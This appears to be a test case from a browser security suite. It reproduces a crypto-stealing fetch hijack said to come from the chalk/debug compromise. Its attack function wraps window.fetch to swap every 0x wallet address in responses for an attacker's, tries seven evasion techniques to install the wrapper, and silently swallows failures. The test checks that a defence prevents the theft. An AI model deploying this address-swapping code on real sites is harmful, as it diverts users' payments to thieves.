// A01, harder: the wrapper is defined over fetch on window, on its prototype and under a new prototype.
import { names } from './logs.mjs';

export default {
  id: 'A01',
  title: 'fetch replaced by defineProperty, delete and a new prototype',
  source: 'chalk/debug, 8 September 2025, with the evasions of H14',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  attack(a) {
    const before = window.fetch;
    const wrapper = async (...args) => {
      const text = await (await before.apply(window, args)).text();
      return new Response(text.replace(/\b0x[a-fA-F0-9]{40}\b/g, a.EVIL));
    };
    const attempts = [
      () => Object.defineProperty(window, 'fetch', { value: wrapper, writable: true, configurable: true }),
      () => Object.defineProperty(window, 'fetch', { get: () => wrapper, configurable: true }),
      () => window.__defineGetter__('fetch', () => wrapper),
      () => delete window.fetch,
      () => Object.defineProperty(Window.prototype, 'fetch', { value: wrapper, configurable: true }),
      () => Object.setPrototypeOf(window, Object.create(Window.prototype, { fetch: { value: wrapper } })),
      () => Reflect.set(window, 'fetch', wrapper),
    ];
    for (const attempt of attempts) {
      try {
        attempt();
      } catch {
        // The payload swallows its own failures.
      }
    }
  },

  async action(a, app) {
    return app.fetchDepositAddress();
  },

  stolen: ({ result, a }) => names(result, a.EVIL),
  arrived: ({ result, a }) => names(result, a.GOOD) && !names(result, a.EVIL),
};
